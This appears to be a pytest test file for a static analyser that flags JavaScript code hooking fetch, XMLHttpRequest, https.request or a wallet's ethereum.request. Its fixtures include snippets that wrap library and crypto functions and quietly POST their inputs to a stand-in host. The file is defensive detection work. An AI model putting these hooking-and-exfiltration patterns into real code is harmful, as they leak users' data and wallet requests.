"""Functions of the platform that are replaced."""

import pytest

from pratique.analysis.facts import Capability
from tests.analysis.languages.javascript.reading import apis, facts


def hooks(source: str) -> set[str]:
    return {name for name in apis(source, Capability.NETWORK) if name.startswith("hook:")}


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("const o = window.fetch; window.fetch = async (...a) => o(...a)", "hook:fetch"),
        ("globalThis.fetch = new Proxy(globalThis.fetch, {apply(t, s, a) {}})", "hook:fetch"),
        (
            "const o = XMLHttpRequest.prototype.open; XMLHttpRequest.prototype.open = function () { return o.apply(this, arguments) }",
            "hook:XMLHttpRequest.open",
        ),
        (
            "const r = window.ethereum.request; window.ethereum.request = async a => r(a)",
            "hook:ethereum.request",
        ),
        ("window.ethereum.request = other.ethereum.request", "hook:ethereum.request"),
        ("Object.defineProperty(window, 'fetch', {value() {}})", "hook:fetch"),
        (
            "const https = require('https'); const o = https.request; https.request = (...a) => o(...a)",
            "hook:https.request",
        ),
    ],
)
def test_replaced_functions_are_named(source: str, expected: str) -> None:
    assert {expected} == hooks(source)


@pytest.mark.parametrize(
    "source",
    [
        "if (!globalThis.fetch) { globalThis.fetch = require('node-fetch') }",
        "if (!self.fetch) { self.fetch = function fetch() {} }",
        "class A { constructor(r) { this.request = r; this.open = () => {} } }",
        "const server = {}; server.request = () => {}; server.open = f",
        "if (o.web3.currentProvider.sendAsync) { o.web3.currentProvider.send = o.web3.currentProvider.sendAsync }",
    ],
)
def test_a_platform_that_is_given_what_it_lacks_is_not_hooked(source: str) -> None:
    assert set() == hooks(source)


TOLD = "const lib = require('lib'); const old = lib.run; lib.run = function (a) { fetch('https://a.invalid', {body: a}); return old(a) };"


def told(source: str) -> list[tuple[str | None, bool]]:
    return [(use.argument, use.at_load) for use in facts(source).uses if use.api == "hook:told"]


@pytest.mark.parametrize(
    "source",
    [
        TOLD,
        TOLD.replace("lib.run", "lib.Client.prototype.run"),
        TOLD.replace("{ fetch", "{ [1].map(() => fetch").replace("; return", "); return"),
        (
            "const M = require('module'); const old = M._load; M._load = function () { const m = old.apply(this, arguments);"
            " m.run = () => fetch('https://a.invalid'); return m };"
        ),
        (
            "[require('http'), require('https')].forEach(lib => { const old = lib.request; lib.request = function (a) {"
            " old.call(lib, {hostname: 'a.invalid', path: '/'}); return old(a) } })"
        ),
    ],
    ids=["a function", "a method", "deeper", "what it gives", "one of two"],
)
def test_a_function_of_others_that_is_replaced_by_one_that_sends_is_told(source: str) -> None:
    assert [("https://a.invalid", True)] == [(host.rstrip("/"), load) for host, load in told(source) if host]


@pytest.mark.parametrize(
    "source",
    [
        TOLD.replace("const old = lib.run;", "const old = f;"),
        TOLD.replace("'https://a.invalid'", "options.url"),
        TOLD.replace("const lib = require('lib')", "const lib = {run: f}"),
        TOLD.replace("const lib = require('lib')", "class lib {}"),
        TOLD.replace("const lib = require('lib'); ", "").replace("lib", "exports"),
    ],
    ids=[
        "nothing kept",
        "an address of its user",
        "an object of its own",
        "a class of its own",
        "its exports",
    ],
)
def test_no_other_is(source: str) -> None:
    assert [] == told(source)


def test_names_that_an_obfuscator_keeps_in_an_array_are_read() -> None:
    source = (
        "const t = ['fetch', 'ethereum', 'request'];\nfunction n(i) { return t[i - 7]; }\n"
        "const old = window[n(7)]; window[n(7)] = function () { return old.apply(this, arguments) };\n"
        "window[n(8)][n(9)] = function (a) { return 1 };"
    )
    assert {"hook:fetch", "hook:ethereum.request"} == hooks(source)


HELPED = (
    "const lib = require('lib'); const keep = (u, b) => fetch('https://a.invalid', {method: 'POST', body: b});\n"
    "const old = lib.run; lib.run = function (u, body) { keep(u, body); return old(u, body); };"
)
LOOPED = (
    "const crypto = require('crypto');\nfor (const n of names) { const old = crypto[n];\n"
    "  crypto[n] = function (p) { fetch('https://a.invalid', {method: 'POST', body: p}); return old(p); }; }"
)
HEARD = "require('diagnostics_channel').subscribe('undici:request:create', m => fetch('https://a.invalid', {body: m}))"


@pytest.mark.parametrize("source", [HELPED, LOOPED, HEARD], ids=["by a helper", "in a loop", "by a channel"])
def test_what_tells_by_another_way_is_noted(source: str) -> None:
    assert [("https://a.invalid", True)] == told(source)


@pytest.mark.parametrize(
    "source",
    [
        HELPED.replace("keep(u, body)", "keep(u, 200)"),
        LOOPED.replace("require('crypto')", "{}"),
        LOOPED.replace("const old = crypto[n]", "const old = f"),
        HEARD.replace("undici:request:create", "cache:hit"),
        HEARD.replace("subscribe", "publish"),
    ],
    ids=["a status", "its own object", "nothing kept", "another channel", "not heard"],
)
def test_less_by_another_way_is_not(source: str) -> None:
    assert [] == told(source)
